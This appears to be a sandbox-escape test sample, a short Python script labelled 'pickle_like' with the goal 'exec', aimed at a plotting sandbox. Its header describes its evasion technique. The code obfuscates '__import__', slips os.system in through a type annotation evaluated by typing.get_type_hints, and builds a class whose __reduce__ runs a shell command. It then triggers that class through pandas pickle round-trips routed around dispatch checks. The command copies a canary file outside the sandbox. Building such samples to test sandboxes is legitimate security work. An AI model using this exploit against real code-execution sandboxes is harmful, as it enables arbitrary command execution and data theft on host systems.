# class: pickle_like
# technique: a frame holding a __reduce__ gadget (class made with the metaclass captured by Grab() == type(int)) is written with agg(**{'func': 'to_pickle'}), then read back by pd.read_pickle inside a DataFrame.eval string whose level points at the snippet's own globals; the dispatch method is called as [obj.method][0](...), which is not a method-call node the dispatch rules inspect
# goal: exec
import typing

import numpy as np
import pandas as pd

cmd = "cat {{CANARY_FILE}} > {{OUTSIDE_DIR}}/anyplot-escape-unpickled"
imp = "_" * 2 + "import" + "_" * 2
grab = []


def fetch(x: "[grab.append(eval(imp)('posix').system), int][-1]"):
    return x


typing.get_type_hints(fetch)

class Grab:
    """Records whatever it is compared with."""

    def __eq__(self, other):
        grabbed.append(other)
        return False

    def __hash__(self):
        return 0


grabbed = []
Grab() == type(int)
make = grabbed[0]
Gadget = make("Gadget", (), {"_" * 2 + "reduce" + "_" * 2: lambda self: (grab[0], (cmd,))})
path = "anyplot-escape-gadget.pkl"
frame = pd.DataFrame({"x": [Gadget()]})
[frame.agg][0](**{"func": "to_pickle", "path": path})
loaded = None
for depth in range(1, 48):
    try:
        loaded = [frame.agg][0](**{"func": "eval", "expr": "@pd.read_pickle(@p)", "level": depth, "local_dict": {"p": path}})
        break
    except Exception:
        continue
df = pd.DataFrame(loaded)
